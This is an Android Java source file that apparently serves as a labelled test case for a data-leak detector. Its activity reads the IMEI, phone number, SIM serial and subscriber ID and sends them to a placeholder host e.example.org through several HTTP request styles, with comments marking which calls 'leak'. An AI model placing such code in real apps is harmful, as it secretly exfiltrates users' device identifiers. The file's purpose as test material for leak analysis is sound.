package ways;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.ByteArrayInputStream;
import java.net.URLEncoder;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpGet;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.client.methods.HttpPut;
import org.apache.http.entity.ByteArrayEntity;
import org.apache.http.entity.InputStreamEntity;
import org.apache.http.entity.mime.MultipartEntity;
import org.apache.http.entity.mime.content.StringBody;
import org.apache.http.impl.client.DefaultHttpClient;

/** Bodies of all kinds in the old client. */
public class Entities extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        HttpClient client = new DefaultHttpClient();
        try {
            HttpPost bytes = new HttpPost("http://e.example.org/1");
            bytes.setEntity(new ByteArrayEntity(phone.getDeviceId().getBytes()));
            client.execute(bytes); // leak
            HttpPut stream = new HttpPut("http://e.example.org/2");
            stream.setEntity(new InputStreamEntity(new ByteArrayInputStream(phone.getLine1Number().getBytes()), -1));
            client.execute(stream); // leak
            HttpPost parts = new HttpPost("http://e.example.org/3");
            MultipartEntity form = new MultipartEntity();
            form.addPart("sim", new StringBody(phone.getSimSerialNumber()));
            parts.setEntity(form);
            client.execute(parts); // leak
            HttpPost none = new HttpPost("http://e.example.org/4");
            MultipartEntity plain = new MultipartEntity();
            plain.addPart("sim", new StringBody("none"));
            none.setEntity(plain);
            client.execute(none); // no leak
            client.execute(new HttpGet("http://e.example.org/5?i=" + URLEncoder.encode(phone.getSubscriberId(), "UTF-8"))); // leak
            HttpGet header = new HttpGet("http://e.example.org/6");
            header.addHeader("X-Imei", phone.getDeviceId());
            client.execute(header); // leak
            client.execute(new HttpGet("http://e.example.org/7?t=" + phone.getPhoneType())); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
